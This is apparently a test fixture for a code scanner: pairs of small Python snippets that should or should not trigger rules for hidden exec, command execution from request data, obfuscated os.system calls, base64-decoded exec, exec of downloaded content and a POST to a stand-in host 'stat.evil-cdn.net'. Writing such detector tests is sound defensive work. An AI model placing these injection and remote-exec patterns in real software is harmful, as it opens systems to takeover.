import { type FlowSample, pythonFlow as py } from "./flow-sample.ts";

/** Python: sources and sinks in different functions, classes and files. */
export const pythonFlowSamples: readonly FlowSample[] = [
  py(
    "an imported function",
    "eval-hidden",
    "b:2",
    ["from b import run\nrun(request.args['x'])", "def run(code):\n    exec(code)"],
    ["from b import run\nrun(request.args['x'])", "def run(code):\n    return len(code)"],
  ),
  py(
    "a module's function",
    "eval-hidden",
    "b:2",
    ["import b as h\nh.run(request.form['x'])", "def run(code):\n    exec(code)"],
    ["import b as h\nh.run(request.form['x'])", "def run(code):\n    return code"],
  ),
  py(
    "an answer of another module",
    "process-received",
    "a:3",
    ["import os\nfrom .b import read\nos.system(read())", "def read():\n    return request.args['c']"],
    ["import os\nfrom .b import read\nprint(read())", "def read():\n    return request.args['c']"],
  ),
  py(
    "a module's constant",
    "call-hidden",
    "a:3",
    ["import os\nfrom b import NAME\ngetattr(os, NAME)('id')", "NAME = 'sys' + 'tem'"],
    ["import os\nfrom b import NAME\ngetattr(os, NAME)('id')", "NAME = 'get' + 'pid'"],
  ),
  py(
    "a name that another module imported",
    "process",
    "a:2",
    ["from b import go\ngo('id')", "from os import system as go"],
    ["from b import go\ngo('id')", "from os import getenv as go"],
  ),
  py(
    "a decoder of one's own",
    "eval-hidden",
    "a:3",
    ["import base64\nd = lambda s: base64.b64decode(s)\nexec(d('cHJpbnQoMSk='))"],
    ["import base64\nd = lambda s: base64.b64decode(s)\nprint(d('cHJpbnQoMSk='))"],
  ),
  py(
    "a field that the constructor writes",
    "eval-hidden",
    "b:5",
    [
      "from b import Job\nJob(request.data).run()",
      "class Job:\n    def __init__(self, code):\n        self.code = code\n    def run(self):\n        exec(self.code)",
    ],
    [
      "from b import Job\nJob(request.data).run()",
      "class Job:\n    def __init__(self, code):\n        self.code = code\n    def run(self):\n        return self.code",
    ],
  ),
  py(
    "a parent's method",
    "eval-hidden",
    "b:3",
    [
      "from b import Base\nclass Child(Base):\n    def go(self):\n        self.keep(request.data)",
      "class Base:\n    def keep(self, x):\n        exec(x)",
    ],
    [
      "from b import Base\nclass Child(Base):\n    def go(self):\n        self.keep(request.data)",
      "class Base:\n    def keep(self, x):\n        return x",
    ],
  ),
  py(
    "an argument by name",
    "eval-hidden",
    "b:2",
    ["from b import go\ngo(where=1, code=request.data)", "def go(code, where):\n    exec(code)"],
    ["from b import go\ngo(where=request.data, code='1')", "def go(code, where):\n    return (code, where)"],
  ),
  py(
    "arguments that are spread",
    "eval-hidden",
    "b:2",
    ["from b import go\ngo(*request.json)", "def go(where, code):\n    exec(code)"],
    ["from b import go\ngo(*request.json)", "def go(where, code):\n    return code"],
  ),
  py(
    "map over what is sent",
    "process-received",
    "a:3",
    ["import os\ndef each(c):\n    os.system(c)\nlist(map(each, request.json))"],
    ["import os\ndef each(c):\n    return c\nlist(map(each, request.json))"],
  ),
  py(
    "a thread",
    "eval-hidden",
    "a:3",
    ["import threading\ndef work(c):\n    exec(c)\nthreading.Thread(target=work, args=(request.data,)).start()"],
    ["import threading\ndef work(c):\n    print(c)\nthreading.Thread(target=work, args=(request.data,)).start()"],
  ),
  py(
    "a global",
    "eval-hidden",
    "a:6",
    ["CODE = None\ndef load():\n    global CODE\n    CODE = request.data\ndef run():\n    exec(CODE)"],
    ["CODE = None\ndef load():\n    global CODE\n    CODE = request.data\ndef run():\n    return CODE"],
  ),
  py(
    "a host in two hands",
    "host-undeclared",
    "b:3",
    [
      "from b import tell\ntell('stat.evil-cdn.net')",
      "import requests\ndef tell(host):\n    requests.post('https://' + host + '/c')",
    ],
    [
      "from b import tell\ntell('api.pay.example')",
      "import requests\ndef tell(host):\n    requests.post('https://' + host + '/c')",
    ],
  ),
  py(
    "a file that with opens",
    "eval-hidden",
    "a:3",
    ["from urllib.request import urlopen\nwith urlopen(u) as answer:\n    exec(answer.read())"],
    ["from urllib.request import urlopen\nwith urlopen(u) as answer:\n    print(answer.read())"],
  ),
  py(
    "a table of functions",
    "process",
    "a:3",
    ["import os\ntable = {'go': os.system}\ntable['go']('id')"],
    ["import os\ntable = {'go': os.getenv}\ntable['go']('id')"],
  ),
];
